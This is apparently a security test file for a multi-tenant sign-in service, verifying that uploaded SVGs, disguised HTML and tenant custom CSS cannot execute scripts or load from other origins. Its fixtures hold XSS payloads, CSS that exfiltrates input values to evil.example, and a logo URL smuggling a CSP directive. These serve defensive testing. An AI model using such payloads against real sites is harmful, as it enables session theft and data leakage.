import { type Call, callerOf } from '~/tests/support/api';
import { T, signInKit } from './support/sign-in-kit';

const SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>`;
/** Ends the element, runs a script, loads from elsewhere, and reads another tenant's file. */
const STYLE = `</style><script>alert(1)</script><style>
@import url(https://evil.example/steal.css);
@font-face { font-family: x; src: url(https://evil.example/x.woff2) }
input[value^='a'] { background: url(https://evil.example/a) }`;

function formOf(content: string, type: string) {
  const head = `--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\nContent-Type: ${type}\r\n\r\n`;
  return [
    `${head}${content}\r\n--b--\r\n`,
    { 'content-type': 'multipart/form-data; boundary=b' },
  ] as const;
}

/** Sources of one directive of a policy. */
function sourcesOf(headers: Record<string, unknown>, directive: string): string[] {
  const policy = String(headers['content-security-policy']).split('; ');
  const found = policy.find((line) => line.startsWith(`${directive} `));
  return found?.split(' ').slice(1) ?? [];
}

describe('what a tenant uploads or writes runs no script', () => {
  const kit = signInKit();
  let admin: Call;
  beforeAll(async () => {
    admin = callerOf(kit.server.tenantApp, await kit.server.managementToken(T));
  });

  const pageWith = async (query: string) => {
    const visitor = await kit.open();
    visitor.page.searchParams.append('organization_id', query);
    const { text, headers } = await visitor.browser.open(visitor.page.href);
    return { text, headers: headers as Record<string, unknown> };
  };

  test('an SVG as an avatar or a logo, opened as a page', async () => {
    const [payload, headers] = formOf(SCRIPT, 'image/svg+xml');
    const { body } = await admin('POST', '/api/user-assets', payload, headers);
    const anyone = callerOf(kit.server.tenantApp, undefined);
    const file = await anyone('GET', new URL((body as { url: string }).url).pathname);
    expect(file.headers).toMatchObject({
      'content-type': 'image/svg+xml',
      'x-content-type-options': 'nosniff',
    });
    // Without scripts, and in an origin of its own: not even a link in it gets at the session.
    expect(sourcesOf(file.headers, 'default-src')).toEqual(["'none'"]);
    expect(String(file.headers['content-security-policy'])).toMatch(/; sandbox$/);
    const elsewhere = callerOf(kit.server.tenantApp, undefined, 'admin.localhost:3001');
    const path = new URL((body as { url: string }).url).pathname;
    expect((await elsewhere('GET', path)).status).toBe(404);
  });

  test.each([
    ['HTML as an image', '<!doctype html><script>alert(1)</script>', 'image/png'],
    ['HTML as an SVG', '<html><svg onload="alert(1)"/></html>', 'image/svg+xml'],
    ['HTML as itself', '<!doctype html>', 'text/html'],
    ['a script', 'alert(1)', 'text/javascript'],
  ])('%s is no upload', async (_name, content, type) => {
    const [payload, headers] = formOf(content, type);
    expect(await admin('POST', '/api/user-assets', payload, headers)).toMatchObject({
      status: 400,
      code: 'guard.mime_type_not_allowed',
    });
  });

  test.each(['tenant', 'application', 'organization'] as const)(
    'the style of the %s stays a style, and loads nothing from elsewhere',
    async (owner) => {
      const { body } = await admin('POST', '/api/organizations', { name: `Styled ${owner}` });
      const { id } = body as { id: string };
      const change = { customCss: STYLE };
      const answer = await {
        tenant: () => admin('PATCH', '/api/sign-in-exp', change),
        application: () =>
          admin('PUT', `/api/applications/${kit.app.id}/sign-in-experience`, change),
        organization: () => admin('PATCH', `/api/organizations/${id}`, change),
      }[owner]();
      expect(answer.status).toBeLessThan(300);
      const { text, headers } = await pageWith(id);
      expect(text).toContain('evil.example/steal.css');
      // It is data, which the page's own script puts into a style element.
      expect(text).not.toContain('</style><script>');
      expect(text).not.toContain('<script>alert');
      const nonces = [...text.matchAll(/nonce="([^"]+)"/g)].map(([, nonce]) => nonce);
      expect(sourcesOf(headers, 'script-src')).toEqual(["'self'", `'nonce-${nonces[0]}'`]);
      expect(sourcesOf(headers, 'style-src')).toEqual(["'self'", `'nonce-${nonces[0]}'`]);
      expect(sourcesOf(headers, 'img-src')).toEqual(["'self'", 'data:', 'blob:']);
      expect(sourcesOf(headers, 'font-src')).toEqual(["'self'", 'data:']);
      expect(sourcesOf(headers, 'connect-src')).toEqual(["'self'"]);
    },
  );

  test('images may come from the origins of logos, and only the origin is named', async () => {
    const { body } = await admin('POST', '/api/organizations', {
      name: 'With a logo',
      branding: { logoUrl: 'https://logos.example/path/a.svg?x=1;%20script-src%20*' },
    });
    await admin('PATCH', '/api/sign-in-exp', {
      branding: { favicon: 'https://icons.example:8443/i.png' },
    });
    const { headers } = await pageWith((body as { id: string }).id);
    expect(sourcesOf(headers, 'img-src').slice(3).sort()).toEqual([
      'https://icons.example:8443',
      'https://logos.example',
    ]);
  });
});
